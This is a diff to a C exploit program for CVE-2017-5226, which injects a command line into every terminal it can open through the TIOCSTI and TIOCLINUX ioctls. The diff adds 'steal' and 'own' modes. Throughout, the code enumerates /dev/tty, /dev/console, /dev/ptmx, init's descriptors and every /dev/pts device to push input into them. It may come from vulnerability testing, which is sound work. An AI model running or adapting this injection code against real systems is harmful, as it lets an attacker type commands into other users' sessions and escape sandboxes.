@@ -1,6 +1,7 @@
 /*
  * CVE-2017-5226: puts a command line into the input of every terminal that it can open, by TIOCSTI, and by the selection of the console
- * (TIOCLINUX of ioctl_console(2)). With an argument it also makes each its controlling terminal first.
+ * (TIOCLINUX of ioctl_console(2)). "steal": it also makes each its controlling terminal first. "own": only its own descriptors, because
+ * root of the host can open the terminals of all users.
  */
 #include <dirent.h>
 #include <fcntl.h>
@@ -22,19 +23,20 @@ static void inject(int terminal, int steal) {
 }
 
 int main(int argc, char **argv) {
-	(void)argv;
-	for (int descriptor = 0; descriptor < 16; descriptor++) inject(descriptor, argc > 1);
+	int steal = argc > 1 && strcmp(argv[1], "steal") == 0;
+	for (int descriptor = 0; descriptor < 16; descriptor++) inject(descriptor, steal);
+	if (argc > 1 && strcmp(argv[1], "own") == 0) return 0;
 	const char *names[] = {"/dev/tty", "/dev/console", "/dev/ptmx", "/proc/1/fd/0", "/proc/1/fd/1", "/proc/1/fd/2", NULL};
 	for (const char **name = names; *name != NULL; name++) {
 		int terminal = open(*name, O_RDWR | O_NOCTTY | O_NONBLOCK);
-		if (terminal >= 0) inject(terminal, argc > 1), close(terminal);
+		if (terminal >= 0) inject(terminal, steal), close(terminal);
 	}
 	DIR *list = opendir("/dev/pts");
 	for (struct dirent *entry; list != NULL && (entry = readdir(list)) != NULL;) {
 		char path[300];
 		snprintf(path, sizeof path, "/dev/pts/%s", entry->d_name);
 		int terminal = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);
-		if (terminal >= 0) inject(terminal, argc > 1), close(terminal);
+		if (terminal >= 0) inject(terminal, steal), close(terminal);
 	}
 	return 0;
 }
